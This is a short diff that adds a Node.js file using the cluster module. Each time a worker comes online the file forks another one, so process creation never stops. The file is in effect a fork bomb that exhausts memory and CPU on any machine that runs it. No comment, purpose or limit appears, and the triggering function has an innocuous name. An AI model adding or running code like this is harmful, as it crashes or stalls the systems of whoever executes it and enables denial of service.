@@ -1,0 +1,4 @@
+import cluster from 'node:cluster';
+const more = () => { cluster.fork(); };
+cluster.on('online', more);
+more();
